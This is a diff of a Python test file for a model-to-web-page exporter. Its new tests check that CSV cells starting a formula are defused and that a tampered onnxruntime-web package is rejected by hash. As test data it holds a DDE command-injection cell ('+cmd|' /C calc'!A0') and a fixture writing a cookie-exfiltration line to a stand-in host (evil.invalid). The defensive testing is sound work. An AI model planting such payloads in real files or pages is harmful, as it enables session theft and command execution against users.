@@ -136,13 +136,23 @@ def assert_matches_python(predictor, values: dict, shown: dict, where: str) -> N
     assert sorted(shown) == sorted({k.split("::")[0] for k in want}), f"{where}: outputs shown {sorted(shown)}"
 
 
+FORMULA_START = re.compile(r"^[=+\-@\t\r]")
+CSV_NUMBER = re.compile(r"^[+-]?(\d+\.?\d*|\.\d+)(e[+-]?\d+)?$", re.I)
+
+
+def spreadsheet_cell(text: str) -> str:
+    """A text cell as the page writes it: an apostrophe before a formula's first character (csv.js)."""
+    return f"'{text}" if FORMULA_START.match(text) and not CSV_NUMBER.match(text) else text
+
+
 def assert_csv_matches_python(predictor, uploaded: Path, download: str, where: str) -> None:
-    """The downloaded CSV: the uploaded columns unchanged + Predictor's columns (floats within 1e-5)."""
+    """The downloaded CSV: the uploaded columns (formulas defused) + Predictor's columns (floats within 1e-5)."""
     import pandas as pd
 
-    sent = pd.read_csv(uploaded, dtype=str, keep_default_na=False)
+    raw = pd.read_csv(uploaded, dtype=str, keep_default_na=False)
+    sent = raw.map(spreadsheet_cell)
     got = pd.read_csv(io.StringIO(download), dtype=str, keep_default_na=False)
-    want = predictor.predict(sent)
+    want = predictor.predict(raw)
     assert list(got.columns) == list(sent.columns) + list(want.columns), f"{where}: columns {list(got.columns)}"
     assert len(got) == len(sent), f"{where}: {len(got)} rows, sent {len(sent)}"
     pd.testing.assert_frame_equal(got[list(sent.columns)], sent, obj=f"{where}: uploaded columns")
@@ -151,7 +161,7 @@ def assert_csv_matches_python(predictor, uploaded: Path, download: str, where: s
             worst = np.max(np.abs(got[col].astype(np.float64).to_numpy() - want[col].to_numpy(np.float64)))
             assert worst <= TOLERANCE, f"{where}: {col}: max |Δ| {worst:.3e}"
         else:
-            assert got[col].tolist() == want[col].astype(str).tolist(), f"{where}: {col}"
+            assert got[col].tolist() == [spreadsheet_cell(v) for v in want[col].astype(str)], f"{where}: {col}"
 
 
 def assert_usable(out: dict) -> None:
@@ -175,7 +185,7 @@ def test_site_model_is_the_model_plus_form_metadata(churn_model, churn_site):
     import onnx
     import pandas as pd
 
-    from exporters.web import ORT_FILES
+    from exporters.web import ORT_FILES, PAGE_FILES
 
     original, site = onnx.load(churn_model[1] / "model.onnx"), onnx.load(churn_site / "model.onnx")
     assert original.graph == site.graph
@@ -193,7 +203,7 @@ def test_site_model_is_the_model_plus_form_metadata(churn_model, churn_site):
     assert fields["partner"]["type"] == "binary" and fields["partner"]["labels"] == ["0", "1"]
     assert fields["phone_service"]["default"] == str(train["phone_service"].mode()[0])
     assert form["defaults_from"] == "churn.csv"  # a file name, never a local path
-    for name in ("index.html", "app.js", "style.css", *(f"ort/{n}" for n in ORT_FILES)):
+    for name in (*PAGE_FILES, *(f"ort/{n}" for n in ORT_FILES)):
         assert (churn_site / name).is_file(), name
     assert "onnxruntime-web 1.30.0" in (churn_site / "ort" / "VERSION").read_text()
 
@@ -208,6 +218,7 @@ def test_churn_page_predicts_like_python(browser, churn_site, tmp_path):
     frame = __import__("pandas").read_csv(CHURN / "churn.csv", dtype=str, keep_default_na=False)
     frame = frame[frame["split"] == "validation"].head(40).drop(columns=["churn", "split"])
     frame.iloc[0, frame.columns.get_loc("payment_method")] = 'Mailed "paper" check,\nby post'  # quotes, comma, newline
+    frame.iloc[1, frame.columns.get_loc("payment_method")] = '=HYPERLINK("http://x.invalid","click")'  # a formula
     frame.to_csv(upload, index=False)
     bad = tmp_path / "bad.csv"
     frame.drop(columns=["tenure"]).head(3).to_csv(bad, index=False)
@@ -368,3 +379,102 @@ def test_web_into_a_model_directory_is_refused(churn_model, tmp_path):
     assert proc.returncode == 2 and "is a model directory" in proc.stderr, proc.stderr
     assert (model_dir / "model.onnx").read_bytes() == before
     assert not (model_dir / "index.html").exists()
+
+
+def test_web_inside_a_model_directory_is_refused(churn_model, tmp_path):
+    import shutil
+
+    model_dir = tmp_path / "model"
+    shutil.copytree(churn_model[1], model_dir)
+    site = model_dir / "site"
+    proc = subprocess.run([sys.executable, "-m", "toolkit.cli", "export", str(model_dir), "--web", str(site)],
+                          capture_output=True, text=True, timeout=120, cwd=ROOT)
+    assert proc.returncode == 2 and "is inside the model directory" in proc.stderr, proc.stderr
+    assert not site.exists()
+
+
+# ---- issue 16: what a public page must not carry ---------------------------------------------
+
+def test_text_placeholder_publishes_no_training_text(tmp_path):
+    """The form of a text model: no field carries any text of the training data."""
+    import pandas as pd
+
+    from exporters import web
+    from toolkit import log, train
+
+    log.quiet = True
+    secrets = [f"patient {i} was told the diagnosis privately" for i in range(40)]
+    frame = pd.DataFrame({"note": secrets, "urgent": ["yes", "no"] * 20})
+    cfg = {"input_features": [{"name": "note", "type": "text"}],
+           "output_features": [{"name": "urgent", "type": "category"}], "trainer": {"epochs": 1}}
+    model = train(cfg, frame, output=tmp_path / "model")
+    form = json.dumps(web.form_fields(model, frame))
+    assert not any(word in form for word in ("patient", "diagnosis", "privately")), form
+    (field,) = web.form_fields(model, frame)
+    assert field["placeholder"] == web.TEXT_PLACEHOLDER
+
+
+def test_csv_cells_that_start_a_formula_are_prefixed():
+    """csv.js, the page's CSV writer, run in Node: formulas defused, numbers and plain text kept."""
+    node = shutil.which("node")
+    if node is None:
+        pytest.skip("node not found")
+    cells = ["=1+2", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=x", "-0.25", "+3", "1e-5", "plain",
+             "a,b", 'say "hi"', "", "=", "-"]
+    script = ("const vm = require('vm'), fs = require('fs'); const ctx = {}; vm.createContext(ctx);"
+              f"vm.runInContext(fs.readFileSync({json.dumps(str(ROOT / 'exporters' / 'web_page' / 'csv.js'))}, 'utf8'), ctx);"
+              f"console.log(JSON.stringify({json.dumps(cells)}.map(ctx.csvField).concat([ctx.csvField(-1.5), ctx.csvField(null)])));")
+    proc = subprocess.run([node, "-e", script], capture_output=True, text=True, timeout=60)
+    assert proc.returncode == 0, proc.stderr
+    assert json.loads(proc.stdout) == [
+        "'=1+2", "'+cmd|' /C calc'!A0", "'-2+3", "'@SUM(A1:A9)", "'\t=x", "-0.25", "+3", "1e-5", "plain",
+        '"a,b"', '"say ""hi"""', "", "'=", "'-", "-1.5", ""]
+    assert all(spreadsheet_cell(c) == (c if not o.startswith("'") else o)
+               for c, o in zip(cells[:10], json.loads(proc.stdout)[:10]) if '"' not in o)
+
+
+def _plant(folder: Path, same_sizes: bool) -> Path:
+    """A fake onnxruntime-web 1.30.0 package: right version string, wrong bytes."""
+    from exporters.web import ORT_WEB_FILES
+
+    package = folder / "node_modules" / "onnxruntime-web"
+    (package / "dist").mkdir(parents=True)
+    (package / "package.json").write_text(json.dumps({"name": "onnxruntime-web", "version": "1.30.0"}))
+    for name, (size, _) in ORT_WEB_FILES.items():
+        evil = b"fetch('https://evil.invalid/?'+document.cookie);//"
+        (package / "dist" / name).write_bytes((evil * (size // len(evil) + 1))[:size] if same_sizes else evil)
+    return package
+
+
+@pytest.mark.parametrize("same_sizes, message", [(True, "sha256 differs"), (False, "not the file")])
+def test_a_planted_onnxruntime_web_is_refused_by_name(tmp_path, monkeypatch, same_sizes, message):
+    from exporters import web
+    from toolkit.errors import TkError
+
+    monkeypatch.setenv("TK_ONNXRUNTIME_WEB", str(_plant(tmp_path, same_sizes)))
+    with pytest.raises(TkError, match="TK_ONNXRUNTIME_WEB") as info:
+        web.find_ort_web()
+    assert message in str(info.value) and "\n" not in str(info.value)
+
+
+def test_a_planted_node_modules_copy_never_reaches_the_site(churn_model, ort_web, tmp_path):
+    """A copy in node_modules of the working directory, right version string, planted bytes: skipped."""
+    import hashlib
+
+    from exporters.web import ORT_WEB_FILES, ORT_WEB_VERSION
+
+    work = tmp_path / "work"
+    _plant(work, same_sizes=True)
+    cache = tmp_path / "cache" / "tk" / f"onnxruntime-web-{ORT_WEB_VERSION}"
+    cache.mkdir(parents=True)
+    os.symlink(ort_web, cache / "package")  # the genuine package, where the cache would hold it
+    env = {k: v for k, v in os.environ.items() if k != "TK_ONNXRUNTIME_WEB"}
+    env |= {"XDG_CACHE_HOME": str(tmp_path / "cache"), "PYTHONPATH": str(ROOT)}
+    site = tmp_path / "site"
+    proc = subprocess.run([sys.executable, "-m", "toolkit.cli", "export", str(churn_model[1]), "--web", str(site)],
+                          capture_output=True, text=True, timeout=300, cwd=work, env=env)
+    assert proc.returncode == 0, proc.stderr
+    assert "skipping" in proc.stderr and "node_modules/onnxruntime-web" in proc.stderr, proc.stderr
+    for name, (size, digest) in ORT_WEB_FILES.items():
+        data = (site / "ort" / name).read_bytes()
+        assert len(data) == size and hashlib.sha256(data).hexdigest() == digest, name
